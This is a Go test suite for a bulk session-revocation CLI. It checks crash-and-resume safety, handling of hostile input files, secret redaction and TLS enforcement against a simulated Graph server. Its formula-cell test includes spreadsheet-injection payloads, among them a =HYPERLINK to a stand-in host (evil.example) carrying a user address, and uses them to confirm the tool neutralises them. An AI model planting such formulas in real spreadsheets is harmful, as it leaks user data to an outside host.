package main

// Reliability and security of the whole program: a real child process killed or interrupted
// mid-run and resumed, hostile input files, and what may never show up in output.

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/bulkrevoke/bulkrevoke/batch"
	"github.com/bulkrevoke/bulkrevoke/graphsim"
	"github.com/bulkrevoke/bulkrevoke/report"
)

// relSecret stands in for an app's client secret: it is in every child's environment, and no
// output may ever contain it or the token.
const relSecret = "relFakeSecret~Q8x.9zZ_do-not-print"

// relUsers is a tenant of n plain members and an input file naming them, one per line.
func relUsers(t *testing.T, n int) ([]graphsim.User, string) {
	t.Helper()
	users := make([]graphsim.User, n)
	var b strings.Builder
	b.WriteString("userPrincipalName\n")
	for i := range users {
		users[i] = graphsim.User{
			ID:  fmt.Sprintf("%08x-0000-4000-8000-%012x", i+1, i+1),
			UPN: fmt.Sprintf("user%03d@contoso.com", i), UserType: "Member", AccountEnabled: true,
		}
		b.WriteString(users[i].UPN + "\n")
	}
	return users, writeFile(t, "users.csv", b.String())
}

// relServer serves graphsim over loopback with a hook run on each $batch request: hook may
// serve the request itself (returning true) or leave it to graphsim. It waits for every
// handler at cleanup and on Drain, so the journal is final when read.
type relServer struct {
	sim *graphsim.Server
	url string
	n   atomic.Int64
	// active counts handlers running. Not a WaitGroup: a dead child's last requests may still
	// arrive while the test waits, and WaitGroup forbids an Add from zero during a Wait.
	mu     sync.Mutex
	idle   *sync.Cond
	active int
	hook   func(rs *relServer, n int64, w http.ResponseWriter, r *http.Request) bool
}

// relStart serves graphsim behind a relServer. Everything the handlers read is set before the
// test server starts, so the race detector sees it ordered before them.
func relStart(t *testing.T, cfg graphsim.Config, users []graphsim.User, hook func(*relServer, int64, http.ResponseWriter, *http.Request) bool) *relServer {
	t.Helper()
	cfg.Token = simToken
	rs := &relServer{hook: hook, sim: graphsim.New(cfg, users)}
	rs.idle = sync.NewCond(&rs.mu)
	srv := httptest.NewServer(rs)
	t.Cleanup(srv.Close)
	rs.url = srv.URL + "/v1.0"
	return rs
}

func (rs *relServer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	rs.mu.Lock()
	rs.active++
	rs.mu.Unlock()
	defer func() {
		rs.mu.Lock()
		rs.active--
		rs.idle.Broadcast()
		rs.mu.Unlock()
	}()
	if strings.HasSuffix(r.URL.Path, "/$batch") {
		n := rs.n.Add(1)
		if rs.hook != nil && rs.hook(rs, n, w, r) {
			return
		}
	}
	rs.sim.ServeHTTP(w, r)
}

// drain waits until no handler runs, so that graphsim's journal holds everything answered.
func (rs *relServer) drain() {
	rs.mu.Lock()
	defer rs.mu.Unlock()
	for rs.active > 0 {
		rs.idle.Wait()
	}
}

// relChild is the program run as a real child process, found on PATH where testscript.Main
// put a copy of the test binary under the command's name.
type relChild struct {
	cmd            *exec.Cmd
	stdout, stderr bytes.Buffer
	mu             sync.Mutex
	proc           *os.Process
}

func relEnv() []string {
	return []string{
		"PATH=" + os.Getenv("PATH"),
		"HOME=" + os.TempDir(),
		"BULKREVOKE_ACCESS_TOKEN=" + simToken,
		"AZURE_CLIENT_SECRET=" + relSecret,
	}
}

func relStartChild(t *testing.T, dir string, args ...string) *relChild {
	t.Helper()
	c := &relChild{cmd: exec.Command("bulkrevoke", args...)}
	c.cmd.Dir = dir
	c.cmd.Env = relEnv()
	c.cmd.Stdout, c.cmd.Stderr = &c.stdout, &c.stderr
	if err := c.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	c.mu.Lock()
	c.proc = c.cmd.Process
	c.mu.Unlock()
	t.Cleanup(func() { c.signal(os.Kill) })
	return c
}

// signal reaches the child from a server handler; the lock orders it after Start for the race
// detector, which cannot see that the request came from the child.
func (c *relChild) signal(sig os.Signal) {
	c.mu.Lock()
	p := c.proc
	c.mu.Unlock()
	if p != nil {
		_ = p.Signal(sig)
	}
}

// wait returns the exit code, or -1 when the child was killed by a signal.
func (c *relChild) wait(t *testing.T) int {
	t.Helper()
	err := c.cmd.Wait()
	if err == nil {
		return 0
	}
	if ee, ok := err.(*exec.ExitError); ok {
		if ws, ok := ee.Sys().(syscall.WaitStatus); ok && ws.Signaled() {
			return -1
		}
		return ee.ExitCode()
	}
	t.Fatal(err)
	return 0
}

// relReport reads a report as raw CSV, checking that no line number appears twice, and returns
// its rows by line through report.ReadReport.
func relReport(t *testing.T, path string) (map[int]batch.Result, int) {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil && !strings.Contains(err.Error(), "wrong number of fields") && !strings.Contains(err.Error(), "extraneous or missing") {
		// A killed run may leave a torn last line; ReadReport below decides what it is worth.
		t.Logf("%s: %v", path, err)
	}
	seen := map[string]bool{}
	for _, rec := range recs[1:] {
		if len(rec) == 0 {
			continue
		}
		if seen[rec[0]] {
			t.Errorf("%s: line %s reported twice", path, rec[0])
		}
		seen[rec[0]] = true
	}
	rows, err := report.ReadReport(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	return rows, len(recs) - 1
}

// relNoSecrets fails when any of texts holds the token or the secret.
func relNoSecrets(t *testing.T, what string, texts ...string) {
	t.Helper()
	for _, s := range texts {
		for _, secret := range []string{simToken, relSecret} {
			if strings.Contains(s, secret) {
				t.Errorf("%s contains a secret (%.8s...)", what, secret)
			}
		}
	}
}

func relRevokeArgs(url, input, reportPath string, extra ...string) []string {
	return append([]string{"revoke", "--auth", "token", "--graph-url", url, "--input", input, "--report", reportPath, "--yes"}, extra...)
}

// TestRelKillAndResume kills the program (SIGKILL) at several points of a run, driven by the
// Nth $batch request reaching Graph, before or after Graph did the work, and resumes from the
// report the dead run left. Nothing may be lost or reported twice, and no user whose row said
// revoked may be sent again.
func TestRelKillAndResume(t *testing.T) {
	for _, nth := range []int64{1, 4, 8} {
		for _, after := range []bool{false, true} {
			name := fmt.Sprintf("envelope %d before Graph answers", nth)
			if after {
				name = fmt.Sprintf("envelope %d after Graph did the work", nth)
			}
			t.Run(name, func(t *testing.T) {
				t.Parallel()
				relKillAndResume(t, nth, after)
			})
		}
	}
}

func relKillAndResume(t *testing.T, nth int64, after bool) {
	users, input := relUsers(t, 200)
	dir := filepath.Dir(input)
	var child *relChild
	var childMu sync.Mutex
	var killed atomic.Bool
	rs := relStart(t, graphsim.Config{Seed: nth, Latency: graphsim.Uniform{Min: 10 * time.Millisecond, Max: 30 * time.Millisecond}}, users,
		func(rs *relServer, n int64, w http.ResponseWriter, r *http.Request) bool {
			if n != nth {
				return false
			}
			childMu.Lock()
			c := child
			childMu.Unlock()
			if !after {
				killed.Store(true)
				c.signal(os.Kill)
				return true
			}
			rec := httptest.NewRecorder()
			rs.sim.ServeHTTP(rec, r)
			killed.Store(true)
			c.signal(os.Kill)
			for k, v := range rec.Header() {
				w.Header()[k] = v
			}
			w.WriteHeader(rec.Code)
			_, _ = w.Write(rec.Body.Bytes())
			return true
		})
	first := filepath.Join(dir, "first.csv")
	childMu.Lock()
	child = relStartChild(t, dir, relRevokeArgs(rs.url, input, first)...)
	childMu.Unlock()
	if code := child.wait(t); code != -1 || !killed.Load() {
		t.Fatalf("first run exited %d (killed: %v), want killed by the test; stderr:\n%s", code, killed.Load(), child.stderr.String())
	}
	rs.drain()
	relNoSecrets(t, "the killed run's output", child.stdout.String(), child.stderr.String())

	firstRows, _ := relReport(t, first)
	before := map[string]int{}
	for _, r := range firstRows {
		if r.Status == batch.StatusRevoked {
			before[r.UPN] = len(rs.sim.Revocations(r.UPN))
			if before[r.UPN] == 0 {
				t.Errorf("line %d says revoked, graphsim never revoked %s", r.Line, r.UPN)
			}
		}
	}

	second := filepath.Join(dir, "second.csv")
	resume := relStartChild(t, dir, relRevokeArgs(rs.url, input, second, "--resume", first)...)
	if code := resume.wait(t); code != 0 {
		t.Fatalf("resumed run exited %d, want 0; stderr:\n%s", code, resume.stderr.String())
	}
	rs.drain()
	rows, n := relReport(t, second)
	if n != len(users) || len(rows) != len(users) {
		t.Fatalf("resumed report has %d rows (%d distinct lines) for %d input rows", n, len(rows), len(users))
	}
	for _, r := range rows {
		if r.Status != batch.StatusRevoked {
			t.Errorf("line %d: %s %s, want revoked", r.Line, r.Status, r.Message)
		}
	}
	for _, u := range users {
		got := len(rs.sim.Revocations(u.UPN))
		if got == 0 {
			t.Errorf("%s never revoked", u.UPN)
		}
		if b, ok := before[u.UPN]; ok && got != b {
			t.Errorf("%s was revoked in the killed run's report and sent again on resume (%d -> %d revocations)", u.UPN, b, got)
		}
	}
	if gs := rs.sim.Stats(); gs.EarlyRetries != 0 {
		t.Errorf("graphsim counted %d early retries", gs.EarlyRetries)
	}
	t.Logf("killed with %d rows revoked in the report", len(before))
	data, _ := os.ReadFile(second)
	relNoSecrets(t, "the resumed run's output and reports", resume.stdout.String(), resume.stderr.String(), string(data))
}

// TestRelInterrupt sends SIGINT to the program while a $batch request is in flight: that
// request finishes and is reported, every other row is not_attempted, the exit code is 130,
// and the summary's resume command, run as printed, finishes the job without sending anyone
// twice.
func TestRelInterrupt(t *testing.T) {
	users, input := relUsers(t, 200)
	dir := filepath.Dir(input)
	var childMu sync.Mutex
	var child *relChild
	rs := relStart(t, graphsim.Config{Seed: 7, Latency: graphsim.Uniform{Min: 40 * time.Millisecond, Max: 40 * time.Millisecond}}, users,
		func(rs *relServer, n int64, w http.ResponseWriter, r *http.Request) bool {
			if n == 2 {
				childMu.Lock()
				child.signal(os.Interrupt)
				childMu.Unlock()
			}
			return false // graphsim answers, after the signal: the envelope is in flight
		})
	first := filepath.Join(dir, "first.csv")
	childMu.Lock()
	child = relStartChild(t, dir, relRevokeArgs(rs.url, input, first, "--concurrency", "1", "-v", "--log-format", "json")...)
	childMu.Unlock()
	if code := child.wait(t); code != exitInterrupted {
		t.Fatalf("exit code %d, want %d; stderr:\n%s", code, exitInterrupted, child.stderr.String())
	}
	rs.drain()
	rows, n := relReport(t, first)
	if n != len(users) || len(rows) != len(users) {
		t.Fatalf("report has %d rows (%d distinct) for %d input rows", n, len(rows), len(users))
	}
	counts := map[batch.Status]int{}
	for _, r := range rows {
		counts[r.Status]++
	}
	gs := rs.sim.Stats()
	// The signal came while the second envelope was in flight: it must be the last one sent,
	// and its users, revoked by graphsim, must be reported revoked, not guessed not_attempted.
	if gs.Envelopes != 2 || counts[batch.StatusRevoked] == 0 || counts[batch.StatusRevoked] != gs.Revocations ||
		counts[batch.StatusNotAttempted] != len(users)-counts[batch.StatusRevoked] {
		t.Fatalf("statuses %v; graphsim got %d envelopes and revoked %d: want 2 envelopes, their users revoked, all others not_attempted",
			counts, gs.Envelopes, gs.Revocations)
	}
	stderr := child.stderr.String()
	_, after, ok := strings.Cut(stderr, "To finish, run:\n  ")
	if !ok {
		t.Fatalf("no resume command in the summary:\n%s", stderr)
	}
	command, _, _ := strings.Cut(after, "\n")
	if !strings.HasPrefix(command, "bulkrevoke revoke ") || !strings.Contains(command, "--resume") {
		t.Fatalf("resume command = %q", command)
	}
	report0, _ := os.ReadFile(first)
	relNoSecrets(t, "the interrupted run's output", child.stdout.String(), stderr, string(report0))

	resume := exec.Command("sh", "-c", command)
	resume.Dir, resume.Env = dir, relEnv()
	var out bytes.Buffer
	resume.Stdout, resume.Stderr = &out, &out
	if err := resume.Run(); err != nil {
		t.Fatalf("%s: %v\n%s", command, err, out.String())
	}
	rows, n = relReport(t, filepath.Join(dir, "first-resumed.csv"))
	if n != len(users) || len(rows) != len(users) {
		t.Fatalf("resumed report has %d rows (%d distinct) for %d input rows", n, len(rows), len(users))
	}
	for _, r := range rows {
		if r.Status != batch.StatusRevoked {
			t.Errorf("line %d: %s, want revoked", r.Line, r.Status)
		}
	}
	// Nothing was killed mid-request, so every user was sent exactly once over both runs.
	for _, u := range users {
		if k := len(rs.sim.Revocations(u.UPN)); k != 1 {
			t.Errorf("%s revoked %d times, want once", u.UPN, k)
		}
	}
	relNoSecrets(t, "the resumed run's output", out.String())
}

// relUTF16 encodes s as UTF-16LE with a BOM, as Excel's "Unicode text" does.
func relUTF16(s string) string {
	var b bytes.Buffer
	b.Write([]byte{0xff, 0xfe})
	for _, u := range utf16.Encode([]rune(s)) {
		b.WriteByte(byte(u))
		b.WriteByte(byte(u >> 8))
	}
	return b.String()
}

// TestRelBadInput: hostile or broken input files end in a clear error naming the file (and
// the line, when there is one) before anything is sent, or in per-row statuses; never a panic.
func TestRelBadInput(t *testing.T) {
	users := []graphsim.User{{ID: "11111111-1111-4111-8111-111111111111", UPN: "adele@contoso.com", UserType: "Member", AccountEnabled: true}}
	garbage := make([]byte, 4096)
	for i := range garbage {
		garbage[i] = byte(i * 7)
	}
	tests := []struct {
		name, content string
		dir           bool   // the input path is a directory
		column        string // --column
		code          int
		stderr        string         // must appear in stderr
		statuses      map[int]string // per-row outcome, for runs that go ahead
	}{
		{name: "empty file", content: "", code: 1, stderr: "no users in the file"},
		{name: "header only", content: "userPrincipalName\r\n", code: 1, stderr: "no users in the file"},
		{name: "UTF-16 with BOM", content: relUTF16("userPrincipalName\tdisplayName\r\nadele@contoso.com\tAdele\r\nghost@contoso.com\tG\r\n"),
			code: 2, statuses: map[int]string{2: "revoked", 3: "not_found"}},
		{name: "binary garbage", content: string(garbage), code: 1, stderr: "binary"},
		{name: "1 MB line", content: "userPrincipalName\n" + strings.Repeat("a", 1<<20) + "@contoso.com\nadele@contoso.com\n",
			code: 2, statuses: map[int]string{2: "invalid", 3: "revoked"}},
		{name: "unbalanced quotes", content: "userPrincipalName,x\n\"adele@contoso.com,1\nb@contoso.com,2\n", code: 1, stderr: ":2: a quoted field"},
		{name: "column that does not exist", content: "userPrincipalName\nadele@contoso.com\n", column: "Object Id", code: 1, stderr: `no column "Object Id"`},
		{name: "directory", dir: true, code: 1, stderr: "is a directory"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			rs := relStart(t, graphsim.Config{Seed: 1}, users, nil)
			input := writeFile(t, "in.csv", tc.content)
			if tc.dir {
				input = t.TempDir()
			}
			reportPath := filepath.Join(t.TempDir(), "report.csv")
			args := relRevokeArgs(rs.url, input, reportPath)
			if tc.column != "" {
				args = append(args, "--column", tc.column)
			}
			res := runCLI(t, map[string]string{"BULKREVOKE_ACCESS_TOKEN": simToken}, "", args...)
			if res.code != tc.code || !strings.Contains(res.stderr, tc.stderr) || strings.Contains(res.stderr, "panic") {
				t.Fatalf("exit %d, stderr:\n%s\nwant exit %d and %q", res.code, res.stderr, tc.code, tc.stderr)
			}
			if tc.statuses == nil {
				if !strings.Contains(res.stderr, filepath.Base(input)) {
					t.Errorf("the error does not name the input: %s", res.stderr)
				}
				if _, err := os.Stat(reportPath); err == nil {
					t.Error("a run that never started left a report")
				}
				if gs := rs.sim.Stats(); gs.Requests != 0 {
					t.Errorf("graphsim got %d requests for an unusable input", gs.Requests)
				}
				return
			}
			rows, n := relReport(t, reportPath)
			if n != len(tc.statuses) {
				t.Fatalf("%d report rows, want %d", n, len(tc.statuses))
			}
			for line, want := range tc.statuses {
				if got := string(rows[line].Status); got != want {
					t.Errorf("line %d: %s (%s), want %s", line, got, rows[line].Message, want)
				}
			}
		})
	}
}

// TestRelReportRefused: a report that cannot be created stops the run before Graph hears of it,
// and an existing report is never overwritten without --force.
func TestRelReportRefused(t *testing.T) {
	users, input := relUsers(t, 3)
	dir := t.TempDir()
	notDir := writeFile(t, "plain-file", "x")
	existing := filepath.Join(dir, "existing.csv")
	if err := os.WriteFile(existing, []byte("precious\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	tests := []struct{ name, path, stderr string }{
		{"missing directory", filepath.Join(dir, "no", "such", "dir", "r.csv"), "does not exist"},
		{"parent is a file", filepath.Join(notDir, "r.csv"), "create report"},
		{"a directory", dir, "is a directory"},
		{"a device", os.DevNull, "not a regular file"},
		{"an existing report", existing, "refusing to overwrite"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			rs := relStart(t, graphsim.Config{Seed: 1}, users, nil)
			res := runCLI(t, map[string]string{"BULKREVOKE_ACCESS_TOKEN": simToken}, "", relRevokeArgs(rs.url, input, tc.path)...)
			if res.code != exitFailure || !strings.Contains(res.stderr, tc.stderr) {
				t.Fatalf("exit %d, stderr:\n%s\nwant exit 1 and %q", res.code, res.stderr, tc.stderr)
			}
			if gs := rs.sim.Stats(); gs.Requests != 0 {
				t.Errorf("graphsim got %d requests though the report could not be written", gs.Requests)
			}
		})
	}
	if b, _ := os.ReadFile(existing); string(b) != "precious\n" {
		t.Fatalf("the existing report was changed: %q", b)
	}

	// --force replaces it, and the replacement is private whatever the old file's mode was.
	rs := relStart(t, graphsim.Config{Seed: 1}, users, nil)
	res := runCLI(t, map[string]string{"BULKREVOKE_ACCESS_TOKEN": simToken}, "", relRevokeArgs(rs.url, input, existing, "--force")...)
	if res.code != exitOK {
		t.Fatalf("--force: exit %d\n%s", res.code, res.stderr)
	}
	fresh := filepath.Join(dir, "fresh.csv")
	if res := runCLI(t, map[string]string{"BULKREVOKE_ACCESS_TOKEN": simToken}, "", relRevokeArgs(rs.url, input, fresh)...); res.code != exitOK {
		t.Fatalf("exit %d\n%s", res.code, res.stderr)
	}
	for _, p := range []string{existing, fresh} {
		fi, err := os.Stat(p)
		if err != nil {
			t.Fatal(err)
		}
		if perm := fi.Mode().Perm(); perm != 0o600 {
			t.Errorf("%s has mode %v, want 0600", filepath.Base(p), perm)
		}
	}
	if _, n := relReport(t, existing); n != len(users) {
		t.Errorf("forced report has %d rows, want %d", n, len(users))
	}
}

// TestRelFormulaCells: cells a spreadsheet would evaluate are neutralised in the report, and
// reading the report back (for --resume) gives the original values.
func TestRelFormulaCells(t *testing.T) {
	hostile := []string{
		`=HYPERLINK("http://evil.example/?u=adele@contoso.com","adele@contoso.com")`,
		"+adele@contoso.com", "-adele@contoso.com", "@adele@contoso.com", "=1+2@contoso.com",
	}
	var in bytes.Buffer
	w := csv.NewWriter(&in)
	w.Write([]string{"userPrincipalName"})
	for _, h := range hostile {
		w.Write([]string{h})
	}
	w.Flush()
	input := writeFile(t, "in.csv", in.String())
	reportPath := filepath.Join(t.TempDir(), "r.csv")
	res := runCLI(t, nil, "", "validate", "--offline", "--input", input, "--report", reportPath)
	if res.code != exitIncomplete {
		t.Fatalf("exit %d\n%s", res.code, res.stderr)
	}
	data, err := os.ReadFile(reportPath)
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(hostile)+1 {
		t.Fatalf("%d report rows, want %d", len(recs)-1, len(hostile))
	}
	for _, rec := range recs[1:] {
		for i, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("line %s column %s = %q: a spreadsheet would evaluate it", rec[0], report.Header[i], cell)
			}
		}
	}
	rows, err := report.ReadReport(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	for i, h := range hostile {
		if got := rows[i+2].Input; got != h {
			t.Errorf("line %d reads back as %q, want %q", i+2, got, h)
		}
	}
}

// TestRelSecrets: no flag takes a secret, and neither the token nor the client secret appear
// in logs, reports or error messages, on success or failure.
func TestRelSecrets(t *testing.T) {
	for _, cmd := range newApp(&sys{}).Commands {
		for _, f := range cmd.Flags {
			for _, name := range f.Names() {
				for _, bad := range []string{"secret", "password", "token", "insecure", "skip-verify", "tls"} {
					if strings.Contains(strings.ToLower(name), bad) && name != "token" {
						t.Errorf("%s --%s: secrets and TLS switches must not be flags", cmd.Name, name)
					}
				}
			}
		}
	}

	users, input := relUsers(t, 30)
	env := map[string]string{"BULKREVOKE_ACCESS_TOKEN": simToken, "AZURE_CLIENT_SECRET": relSecret,
		"AZURE_TENANT_ID": "00000000-0000-4000-8000-0000000000aa", "AZURE_CLIENT_ID": "00000000-0000-4000-8000-0000000000bb"}
	// Graph refusing the token is the path most likely to echo it.
	refusing := relStart(t, graphsim.Config{Seed: 1}, users, nil)
	refusing.sim.SetToken("not-the-token-we-send")
	// Retried steps make the engine log warnings; a short Retry-After keeps the test quick.
	ok := relStart(t, graphsim.Config{Seed: 2, FractionalRetryAfter: true, Faults: graphsim.Faults{
		StepRate: 0.3, StepStatuses: []int{503}, RetryAfter: 20 * time.Millisecond}}, users, nil)
	dir := t.TempDir()
	runs := []struct {
		name string
		args []string
		env  map[string]string
	}{
		{"success, verbose json logs", relRevokeArgs(ok.url, input, filepath.Join(dir, "a.csv"), "-v", "--log-format", "json", "--verify", "--max-attempts", "20"), env},
		{"token refused, verbose", relRevokeArgs(refusing.url, input, filepath.Join(dir, "b.csv"), "-v", "--batch-size", "10"), env},
		{"dry run", append(relRevokeArgs(ok.url, input, filepath.Join(dir, "c.csv"), "-v"), "--dry-run"), env},
		{"secret auth, missing tenant", []string{"revoke", "--auth", "secret", "--tenant-id", "", "--input", input, "--yes", "--report", filepath.Join(dir, "d.csv")},
			map[string]string{"AZURE_CLIENT_SECRET": relSecret, "AZURE_CLIENT_ID": "x"}},
		{"plain http to a remote host", []string{"revoke", "--auth", "token", "--graph-url", "http://graph.example.com/v1.0", "--input", input, "--yes"}, env},
	}
	for _, r := range runs {
		res := runCLI(t, r.env, "", r.args...)
		texts := []string{res.stdout, res.stderr}
		for _, a := range r.args {
			if strings.HasSuffix(a, ".csv") && a != input {
				if b, err := os.ReadFile(a); err == nil {
					texts = append(texts, string(b))
				}
			}
		}
		if res.code == exitOK && r.name != "success, verbose json logs" && r.name != "dry run" {
			t.Errorf("%s: exit 0, want a failure", r.name)
		}
		relNoSecrets(t, r.name, texts...)
	}
}

// TestRelGraphURL: a bearer token never travels in clear text, and TLS is always verified.
func TestRelGraphURL(t *testing.T) {
	users, input := relUsers(t, 2)
	env := map[string]string{"BULKREVOKE_ACCESS_TOKEN": simToken}
	for _, u := range []string{"http://graph.example.com/v1.0", "http://10.0.0.1/v1.0", "http://localhost.example.com/v1.0", "ftp://127.0.0.1/v1.0"} {
		res := runCLI(t, env, "", relRevokeArgs(u, input, filepath.Join(t.TempDir(), "r.csv"))...)
		if res.code != exitFailure || !strings.Contains(res.stderr, "only https is allowed") {
			t.Errorf("--graph-url %s: exit %d, stderr %s; want refused", u, res.code, res.stderr)
		}
	}

	// A server whose certificate this machine does not trust: every request fails, none is
	// made without verification.
	sim := graphsim.New(graphsim.Config{Token: simToken, Seed: 1}, users)
	srv := httptest.NewTLSServer(sim)
	defer srv.Close()
	reportPath := filepath.Join(t.TempDir(), "r.csv")
	res := runCLI(t, env, "", relRevokeArgs(srv.URL+"/v1.0", input, reportPath, "--max-attempts", "1")...)
	if res.code != exitIncomplete {
		t.Fatalf("exit %d, want 2\n%s", res.code, res.stderr)
	}
	rows, _ := relReport(t, reportPath)
	for _, r := range rows {
		if r.Status != batch.StatusFailed || !strings.Contains(r.Message, "certificate") {
			t.Errorf("line %d: %s %q, want failed for the untrusted certificate", r.Line, r.Status, r.Message)
		}
	}
	if gs := sim.Stats(); gs.Requests != 0 {
		t.Errorf("graphsim served %d requests over unverified TLS", gs.Requests)
	}
}
